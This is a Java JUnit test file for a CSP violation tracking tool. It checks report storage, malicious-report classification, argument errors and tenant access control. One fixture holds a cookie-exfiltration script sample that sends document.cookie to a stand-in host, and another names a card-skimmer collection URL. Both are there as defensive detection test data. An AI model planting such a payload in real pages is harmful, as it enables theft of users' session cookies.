package org.secheaders.analytics.tool;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.secheaders.analytics.testing.AnalyticsTestServer.ACME_ADMIN;
import static org.secheaders.analytics.testing.AnalyticsTestServer.ANALYST;
import static org.secheaders.analytics.testing.AnalyticsTestServer.INITECH_ADMIN;
import static org.secheaders.analytics.testing.AnalyticsTestServer.MANAGER;
import static org.secheaders.analytics.testing.AnalyticsTestServer.SERVER;

import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.secheaders.analytics.testing.AnalyticsScenario;

class TrackCspViolationToolTest {

    private static final String TOOL = "track_csp_violation";

    @Test
    void storesARawLegacyReportGivenAsJson() {
        Map<?, ?> result = SERVER.success(ANALYST, TOOL, Map.of("tenant", "initech", "content_type", "application/csp-report",
                "report", Map.of("csp-report", Map.of("document-uri", "https://initech.example/account",
                        "effective-directive", "script-src-elem", "blocked-uri", "inline", "disposition", "enforce",
                        "script-sample", "fetch('//x.example?c='+document.cookie)", "line-number", 31))));

        assertEquals("initech", result.get("tenant"));
        assertEquals(1, result.get("received"));
        Map<?, ?> stored = (Map<?, ?>) ((List<?>) result.get("stored")).get(0);
        assertTrue(((Number) stored.get("id")).longValue() > 0);
        assertEquals("malicious", stored.get("classification"));
        assertEquals("critical", stored.get("severity"));
        assertEquals("v1.malicious.injection-sample", stored.get("rule_id"));
        assertTrue(((String) stored.get("reason")).length() > 10, stored::toString);
        assertEquals(0, result.get("duplicates_suppressed"));
        assertEquals(Map.of("total", 0, "by_rule", Map.of()), result.get("noise"));
        assertTrue(((Number) result.get("processing_ms")).doubleValue() > 0);
    }

    @Test
    void storesABatchGivenAsTextAndStructuredFieldsForTheOwnTenant() {
        Map<?, ?> batch = SERVER.success(INITECH_ADMIN, TOOL, Map.of("tenant", "initech", "report",
                "[{\"type\":\"csp-violation\",\"url\":\"https://initech.example/\",\"body\":{\"documentURL\":"
                        + "\"https://initech.example/\",\"effectiveDirective\":\"img-src\",\"blockedURL\":\"data\"}},"
                        + "{\"type\":\"intervention\",\"url\":\"https://initech.example/\",\"body\":{\"id\":\"x\",\"message\":\"m\"}}]"));
        Map<?, ?> fields = SERVER.success(INITECH_ADMIN, TOOL, Map.of("tenant", "initech",
                "document_uri", "https://initech.example/checkout", "effective_directive", "connect-src",
                "blocked_uri", "https://collect.skimmer.example/c", "disposition", "enforce", "line_number", 77));

        assertEquals("v1.fp.data-image", ((Map<?, ?>) ((List<?>) batch.get("stored")).get(0)).get("rule_id"));
        assertEquals(Map.of("intervention", 1), batch.get("other_reports"));
        Map<?, ?> skimmer = (Map<?, ?>) ((List<?>) fields.get("stored")).get(0);
        assertEquals("v1.malicious.exfiltration", skimmer.get("rule_id"));
        assertEquals("critical", skimmer.get("severity"));
    }

    @Test
    void badInputIsAToolErrorNamingTheArgument() {
        assertEquals("argument 'effective_directive' is required unless violated_directive is given",
                SERVER.failure(ANALYST, TOOL, Map.of("tenant", "initech", "document_uri", "https://initech.example/")));
        assertEquals("argument 'violated_directive' is unusable: directive '42 script-src' does not start with a directive name",
                SERVER.failure(ANALYST, TOOL, Map.of("tenant", "initech", "document_uri", "https://initech.example/",
                        "violated_directive", "42 script-src")));
        assertEquals("argument 'document_uri' cannot be combined with report: give the raw report or its fields",
                SERVER.failure(ANALYST, TOOL, Map.of("tenant", "initech", "report", "{}", "document_uri", "https://initech.example/")));
        assertTrue(SERVER.failure(ANALYST, TOOL, Map.of("tenant", "initech", "report", "{\"csp-report\": ")).startsWith(
                "argument 'report' was rejected: malformed_json"));
        assertEquals("argument 'tenant' is required: name the tenant the report belongs to",
                SERVER.failure(ANALYST, TOOL, Map.of("report", "{}")));
        assertTrue(SERVER.failure(ANALYST, TOOL, Map.of("tenant", "initech", "report", 42)).contains("report"),
                "the SDK's schema validation names the argument too");
        assertTrue(SERVER.failure(ANALYST, TOOL, Map.of("tenant", "initech", "report", "{}", "colour", "red")).contains("colour"));
    }

    @Test
    void onlyTheOwnTenantAndOnlyWithWriteAccess() {
        AnalyticsScenario scenario = AnalyticsScenario.shared();
        assertEquals("access denied: role tenant_admin may only access violations of tenant "
                        + scenario.acme().id() + ", not tenant " + scenario.initech().id(),
                SERVER.failure(ACME_ADMIN, TOOL, Map.of("tenant", "initech", "document_uri", "https://initech.example/",
                        "effective_directive", "img-src")));
        assertEquals("access denied: role manager may only read violations",
                SERVER.failure(MANAGER, TOOL, Map.of("tenant", "initech", "document_uri", "https://initech.example/",
                        "effective_directive", "img-src")));
    }
}
